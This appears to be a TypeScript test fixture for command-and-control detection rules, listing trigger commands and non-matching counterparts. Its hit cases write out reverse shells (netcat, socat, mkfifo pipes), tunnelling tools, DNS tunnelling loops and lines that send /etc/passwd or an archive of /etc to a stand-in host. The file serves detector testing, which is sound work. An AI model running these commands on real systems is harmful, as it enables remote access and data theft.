import type { Triggers } from '../trigger.ts'

/** Triggers of the rules in this folder, and what must not match. */
export const commandAndControl: Triggers = {
  'command-and-control/download-to-writable-folder': {
    hits: [
      'curl -o /tmp/x http://192.0.2.7/x',
      'wget -O /dev/shm/x http://192.0.2.7/x',
      'wget -P /tmp http://192.0.2.7/x',
    ],
    misses: ['curl -o x http://192.0.2.7/x'],
  },
  'command-and-control/download-by-interpreter': {
    hits: [
      ['python3', '-c', 'import urllib.request as u;u.urlretrieve("http://192.0.2.7/x","x")'],
      'whois -h 192.0.2.7 -p 80 x',
    ],
    misses: [['python3', '-c', 'import urllib.parse'], 'whois 192.0.2.7'],
  },
  'command-and-control/netcat-shell': {
    hits: [
      'nc -e /bin/sh 192.0.2.7 4444',
      'ncat 192.0.2.7 443 --sh-exec bash',
      ['sh', '-c', 'mkfifo x; cat x | sh -i 2>&1 | nc 192.0.2.7 4444 > x'],
      ['socat', 'tcp:192.0.2.7:80', 'exec:/bin/bash'],
    ],
    misses: ['nc -l 8080', 'socat - tcp:192.0.2.7:80'],
  },
  'command-and-control/netcat-listener': {
    hits: ['nc -lvnp 4444', 'ncat --listen 4444', 'socat TCP-LISTEN:80,fork -'],
    misses: ['nc 192.0.2.7 80'],
  },
  'command-and-control/tunnel-by-ssh': {
    hits: [
      'ssh -N -R 2222:localhost:22 a@192.0.2.7',
      'ssh -fND 1080 a@192.0.2.7',
      'sshuttle -r a 0/0',
    ],
    misses: ['ssh a@192.0.2.7', 'ssh -p 2222 a@192.0.2.7'],
  },
  'command-and-control/tunnel-by-tool': {
    hits: [
      'ngrok http 80',
      'chisel client 192.0.2.7:8080 R:socks',
      'frpc -c x.toml',
      'cloudflared tunnel --url http://localhost:80',
    ],
    misses: ['ngrok version', 'lt --help'],
  },
  'command-and-control/traffic-forwarded': {
    hits: [
      'socat tcp-listen:8080,fork tcp:192.0.2.7:80',
      'proxychains4 curl http://192.0.2.7',
      'tor -f x',
      'curl --socks5 127.0.0.1:9050 http://x',
    ],
    misses: ['curl http://192.0.2.7', 'socat - tcp:192.0.2.7:80'],
  },
  'command-and-control/tunnel-through-names': {
    hits: [
      'iodine -f t.example.org',
      ['sh', '-c', 'for b in $(xxd -p x); do dig $b.example.org; done'],
      'ptunnel -p 192.0.2.7 -lp 80',
    ],
    misses: ['dig example.org', ['sh', '-c', 'dig +short example.org']],
  },
  'command-and-control/unusual-port': {
    hits: [
      {
        sh: 'unshare -n sh -c "ip link set lo up; ip address add 192.0.2.7/32 dev lo; timeout 60 bash -c \\"echo > /dev/tcp/192.0.2.7/4444\\" 2> /dev/null; true"',
      },
    ],
    misses: [{ sh: 'bash -c "echo > /dev/tcp/127.0.0.1/4444" 2> /dev/null; true' }],
  },
  'command-and-control/web-service-used': {
    hits: ['curl https://pastebin.com/raw/x', 'wget https://x.ngrok.io/a'],
    misses: ['curl https://example.org/pastebin'],
  },
  'command-and-control/web-with-forged-client': {
    hits: [
      'curl -s -A Mozilla/5.0 http://192.0.2.7',
      'wget --no-check-certificate https://192.0.2.7',
    ],
    misses: ['curl https://example.org'],
  },
  'command-and-control/remote-access-tool': {
    hits: ['tmate -F', 'anydesk --get-id', 'ttyd -p 80 bash'],
    misses: ['tmate --help'],
  },
  'command-and-control/encoded-to-network': {
    hits: [
      ['sh', '-c', 'tar c /etc | base64 | nc 192.0.2.7 80'],
      ['bash', '-c', 'cat /etc/passwd > /dev/tcp/192.0.2.7/80'],
      ['sh', '-c', 'curl http://192.0.2.7/$(whoami)'],
    ],
    misses: [['sh', '-c', 'base64 x | tr a b']],
  },
  'command-and-control/encrypted-channel': {
    hits: [
      'ncat --ssl 192.0.2.7 443',
      'openssl s_client -quiet -connect 192.0.2.7:443',
      'socat - OPENSSL-CONNECT:a:443',
    ],
    misses: ['openssl x509 -in c'],
  },
  'command-and-control/tunnel-device': {
    hits: ['ip link add v0 type vxlan id 7', 'ip tuntap add dev t0 mode tun'],
    misses: ['ip link add d0 type dummy', 'ip tuntap show'],
  },
  'command-and-control/download-from-address': {
    hits: ['curl -O http://198.51.100.7/x', 'wget -q https://203.0.113.9:8443/x'],
    misses: ['curl http://127.0.0.1/x', 'curl https://example.org/198.51.100.7'],
  },
  'command-and-control/data-in-echo': {
    hits: [{ sh: '$TRIGGER socket 2 3 1' }],
    misses: [{ sh: '$TRIGGER socket 2 3 6' }],
  },
  'command-and-control/file-transfer-tool': {
    hits: ['ftp -n 192.0.2.7', 'curl -T x ftp://192.0.2.7/', ['python3', '-c', 'import smtplib']],
    misses: ['curl http://192.0.2.7/'],
  },
  'command-and-control/name-server-asked': {
    hits: ['dig @192.0.2.7 x.example.com', 'nslookup a.example.com 192.0.2.7'],
    misses: ['dig example.com', 'host example.com'],
  },
  'command-and-control/encoded-in-request': {
    hits: [['curl', '-d', 'aGVsbG8gd29ybGQhIQ==', 'http://192.0.2.7/']],
    misses: [['curl', '-d', 'name=value', 'http://192.0.2.7/']],
  },
  'command-and-control/script-client': {
    hits: [['python3', '-c', 'import urllib.request; urllib.request.urlopen("http://192.0.2.7/")']],
    misses: [['python3', '-c', 'import socket']],
  },
  'command-and-control/socket-by-interpreter': {
    hits: [['python3', '-c', 'import socket; socket.create_connection(("192.0.2.7", 80))']],
    misses: [['python3', '-c', 'import socketserver']],
  },
  'command-and-control/web-by-shell': {
    hits: [
      {
        sh: 'unshare -n sh -c "ip link set lo up; ip address add 192.0.2.7/32 dev lo; timeout 60 bash -c \\"echo > /dev/tcp/192.0.2.7/80\\" 2> /dev/null; true"',
      },
    ],
    misses: [{ sh: 'bash -c "echo > /dev/tcp/127.0.0.1/80" 2> /dev/null; true' }],
  },
  'command-and-control/web-by-script': {
    hits: [
      {
        sh: 'unshare -n sh -c "ip link set lo up; ip address add 192.0.2.7/32 dev lo; timeout 60 python3 -c \\"import socket; socket.create_connection((chr(49)+chr(57)+chr(50)+\'.0.2.7\', 80))\\";  2> /dev/null; true"',
      },
    ],
    misses: [
      {
        sh: 'unshare -n sh -c "ip link set lo up; ip address add 192.0.2.7/32 dev lo; timeout 60 bash -c \\"echo > /dev/tcp/192.0.2.7/80\\" 2> /dev/null; true"',
      },
    ],
  },
  'command-and-control/mail-by-unusual-program': {
    hits: [
      {
        sh: 'unshare -n sh -c "ip link set lo up; ip address add 192.0.2.7/32 dev lo; timeout 60 bash -c \\"echo > /dev/tcp/192.0.2.7/25\\" 2> /dev/null; true"',
      },
    ],
    misses: [{ sh: 'bash -c "echo > /dev/tcp/127.0.0.1/25" 2> /dev/null; true' }],
  },
  'command-and-control/proxy-variable': {
    hits: [{ sh: 'cp "$TRIGGER" curl; http_proxy=http://192.0.2.7:80 ./curl try close 99' }],
    misses: [{ sh: 'cp "$TRIGGER" curl; ./curl try close 99' }],
  },
}
